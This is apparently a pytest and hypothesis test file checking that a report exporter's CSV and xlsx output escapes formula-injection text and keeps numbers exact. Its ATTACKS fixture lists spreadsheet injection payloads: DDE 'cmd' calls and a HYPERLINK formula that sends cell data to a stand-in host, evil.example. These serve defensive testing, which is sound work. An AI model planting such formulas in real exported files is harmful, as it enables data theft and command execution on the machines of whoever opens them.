"""The CSV files and workbook of a report run no code, whatever text a client's file holds.

Expected behaviour: OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection):
cells beginning with = + - @ tab or carriage return are prefixed with a single quote; and in
.xlsx a text cell must be stored as a string (openpyxl data type "s"), never as a formula
("f"). Everything is checked by reading the files back with the csv module and openpyxl.
"""

from __future__ import annotations

import csv
import math
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cemlab.results import result_table, write_tables
from cemlab.safe_export import DANGEROUS_PREFIXES, REPLACEMENT

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the benchmark")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _sheet_rows(path: Path, sheet: str) -> list[list]:
    return [list(row) for row in load_workbook(path)[sheet].iter_rows()]


def _expected_csv_text(text: str) -> str:
    return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text


def test_client_text_in_values_labels_and_headers_is_inert(tmp_path):
    # a segment table as a report writes it: the segment labels, the wave in a column header
    # and the statements come from client files; the figures are numbers, one negative
    table = result_table(pd.DataFrame(
        {"statement": ATTACKS, "=1+1 (wave)": np.linspace(-3.5, 4.0, len(ATTACKS)),
         "n": range(10, 10 + len(ATTACKS))},
        index=pd.Index([f"-segment {i}" for i in range(len(ATTACKS))], name="@segment"),
    ))
    write_tables({"segments": table}, tmp_path)

    rows = _csv_rows(tmp_path / "segments.csv")
    assert rows[0] == ["'@segment", "statement", "'=1+1 (wave)", "n"]
    for row, attack, value, n in zip(rows[1:], ATTACKS, table["=1+1 (wave)"], table["n"]):
        assert row[0].startswith("'-segment")
        assert row[1] == "'" + attack  # the carriage return stays inside its quoted cell
        assert float(row[2]) == pytest.approx(value) and not row[2].startswith("'")
        assert int(row[3]) == n
    assert rows[1][2] == "-3.5"  # a negative number stays a number

    cells = _sheet_rows(tmp_path / "tables.xlsx", "segments")
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert [c.value for c in cells[0]] == ["@segment", "statement", "=1+1 (wave)", "n"]
    # text as written, no prefix (a carriage return is a line end in XML)
    assert [row[1].value for row in cells[1:]] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(row[1].data_type == "s" and row[1].quotePrefix for row in cells[1:])
    assert cells[1][2].value == -3.5 and cells[1][2].data_type == "n"


def test_float_noise_is_not_written_to_csv(tmp_path):
    largest = sys.float_info.max  # to 12 digits it rounds down, and stays finite
    table = pd.DataFrame({"pct_agree": [56.00000000000001, 0.1 + 0.2, 1 / 3, largest],
                          "n": [1, 2, 3, 4]})
    write_tables({"agreement": table}, tmp_path)
    assert _csv_rows(tmp_path / "agreement.csv") == [
        ["pct_agree", "n"], ["56", "1"], ["0.3", "2"], ["0.333333333333", "3"],
        [f"{largest:.12g}", "4"]]


def test_bad_table_names_are_refused_before_anything_is_written(tmp_path):
    with pytest.raises(ValueError, match="use letters"):
        write_tables({"../escape": pd.DataFrame({"a": [1]})}, tmp_path)
    with pytest.raises(ValueError, match="share one sheet"):
        write_tables({"x" * 31 + "a": pd.DataFrame({"a": [1]}),
                      "X" * 31 + "b": pd.DataFrame({"a": [2]})}, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_an_interrupted_workbook_leaves_the_previous_files_whole(tmp_path, monkeypatch):
    write_tables({"scores": pd.DataFrame({"mean": [6.5]})}, tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(pd.DataFrame, "to_excel", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_tables({"scores": pd.DataFrame({"mean": [7.5]})}, tmp_path)
    # the CSV was complete and replaced; the workbook is the old one, and no partial file stays
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(before)
    assert (tmp_path / "tables.xlsx").read_bytes() == before["tables.xlsx"]
    assert _csv_rows(tmp_path / "scores.csv")[1] == ["7.5"]


# -- the property: any text, anywhere --------------------------------------------------------

#: Text cells: anything, with the dangerous prefixes made likely.
TEXT = st.one_of(
    st.text(max_size=12),
    st.builds(lambda p, t: p + t, st.sampled_from(DANGEROUS_PREFIXES), st.text(max_size=8)),
)
@st.composite
def tables(draw) -> pd.DataFrame:
    rows = draw(st.integers(1, 4))
    names = draw(st.lists(TEXT, min_size=2, max_size=4, unique=True))
    kinds = draw(st.lists(st.sampled_from(["text", "float", "int"]), min_size=len(names),
                          max_size=len(names)))
    columns = {}
    for name, kind in zip(names, kinds):
        if kind == "text":
            columns[name] = draw(st.lists(TEXT, min_size=rows, max_size=rows))
        elif kind == "float":  # openpyxl writes "%.16g": the largest floats would round to inf
            columns[name] = draw(st.lists(st.floats(-1e300, 1e300), min_size=rows,
                                          max_size=rows))
        else:
            columns[name] = draw(st.lists(st.integers(-(10**15), 10**15), min_size=rows,
                                          max_size=rows))
    frame = pd.DataFrame(columns)
    frame.columns = pd.Index(names, dtype=object)
    if draw(st.booleans()):  # client labels as the index (segments, waves)
        labels = draw(st.lists(TEXT, min_size=rows, max_size=rows))
        frame.index = pd.Index(labels, name=draw(TEXT), dtype=object)
    return frame


def _as_xlsx(text: str) -> str | None:
    """What openpyxl reads back for a text cell: XML-illegal characters replaced, "" empty."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")  # as XML reads a line end
    out = "".join(REPLACEMENT if (ord(c) < 32 and c not in "\t\n") else c for c in text)
    return out or None


def _check_number(read: str | float, original: float, *, csv_file: bool) -> None:
    """The cell read back is a number (not text) equal to the original to the digits written."""
    if csv_file:  # 15 significant digits, as a spreadsheet shows them
        assert isinstance(read, str) and not read.startswith("'")
        read = float(read)
    else:  # openpyxl writes 16 significant digits ("%.16g")
        assert isinstance(read, int | float)
    # rounded to 12 significant digits (EXPORT_DIGITS): no float noise, every figure's digits
    assert math.isclose(read, original, rel_tol=1e-11, abs_tol=1e-300)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(drawn=st.lists(tables(), min_size=1, max_size=5))
def test_no_cell_of_any_table_is_a_formula_and_every_number_survives(tmp_path, drawn):
    # several tables per workbook: each example costs one openpyxl save, not one per table
    written = write_tables({f"t{i}": table for i, table in enumerate(drawn)}, tmp_path)
    assert len(written) == len(drawn) + 1
    workbook = load_workbook(tmp_path / "tables.xlsx")
    for i, table in enumerate(drawn):
        rows = _csv_rows(tmp_path / f"t{i}.csv")
        cells = [list(row) for row in workbook[f"t{i}"].iter_rows()]
        _check_table(table, rows, cells)


def _check_table(table: pd.DataFrame, rows: list[list[str]], cells: list[list]) -> None:
    """Each CSV field and workbook cell against the table cell it holds."""
    has_index = not isinstance(table.index, pd.RangeIndex)
    # the same grid the files hold: a header row, then one row per table row
    header = ([table.index.name] if has_index else []) + list(table.columns)
    grid = [header] + [
        ([label] if has_index else []) + list(values)
        for label, values in zip(table.index, table.itertuples(index=False))
    ]
    text_columns = {i for i, c in enumerate(table.columns)
                    if not pd.api.types.is_numeric_dtype(table[c])}
    offset = 1 if has_index else 0

    assert len(rows) == len(grid) == len(cells)
    for r, expected_row in enumerate(grid):
        assert len(rows[r]) == len(expected_row)
        for c, original in enumerate(expected_row):
            written, cell = rows[r][c], cells[r][c]
            assert cell.data_type != "f"
            is_text = r == 0 or c < offset or (c - offset) in text_columns
            if is_text:
                assert not written.startswith(DANGEROUS_PREFIXES)
                assert written == _expected_csv_text(original or "")
                assert cell.value == _as_xlsx(original or "")
            else:
                _check_number(written, original, csv_file=True)
                _check_number(cell.value, original, csv_file=False)


def test_multiindex_labels_categories_and_missing_text_are_covered(tmp_path):
    # a segment x wave table: both index levels and a categorical column hold client labels
    index = pd.MultiIndex.from_tuples([("=seg", "+2024"), ("@seg", "2025")],
                                      names=["-segment", "wave"])
    table = pd.DataFrame({"label": pd.Categorical(["=A1", "ok"]),
                          "comment": pd.array(["-x", pd.NA], dtype="string"),
                          "mean": [-1.25, 2.0]}, index=index)
    write_tables({"by_wave": table}, tmp_path)
    rows = _csv_rows(tmp_path / "by_wave.csv")
    assert rows == [["'-segment", "wave", "label", "comment", "mean"],
                    ["'=seg", "'+2024", "'=A1", "'-x", "-1.25"],
                    ["'@seg", "2025", "ok", "", "2"]]
    cells = _sheet_rows(tmp_path / "tables.xlsx", "by_wave")
    assert all(cell.data_type != "f" for row in cells for cell in row)
    values = [[cell.value for cell in row] for row in cells]
    assert ["=seg", "+2024", "=A1", "-x", -1.25] in values


def _significant_digits(value: float) -> int:
    """Digits of the shortest repr that reads back as ``value`` (56.00000000000001 has 16)."""
    mantissa = repr(float(value)).lower().split("e")[0].replace("-", "").replace(".", "")
    return len(mantissa.strip("0")) or 1


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(st.tuples(st.integers(0, 10_000), st.integers(1, 1000)), min_size=1,
                      max_size=8))
def test_exported_figures_carry_no_float_noise(tmp_path, parts):
    # shares and means as the analyses compute them (100 * k / n, sums of tenths) carry binary
    # noise; the files read back hold each figure to 12 significant digits, as written
    values = [100 * k / n for k, n in parts] + [sum([0.1] * (n % 20 + 1)) for _k, n in parts]
    table = pd.DataFrame({"value": values})
    write_tables({"figures": table}, tmp_path)
    from_csv = pd.read_csv(tmp_path / "figures.csv")["value"]
    from_xlsx = [row[0].value for row in load_workbook(tmp_path / "tables.xlsx")["figures"]
                 .iter_rows(min_row=2)]
    for original, csv_value, xlsx_value in zip(values, from_csv, from_xlsx, strict=True):
        expected = float(f"{original:.12g}")
        assert csv_value == expected and xlsx_value == expected
        assert _significant_digits(csv_value) <= 12 and _significant_digits(xlsx_value) <= 12
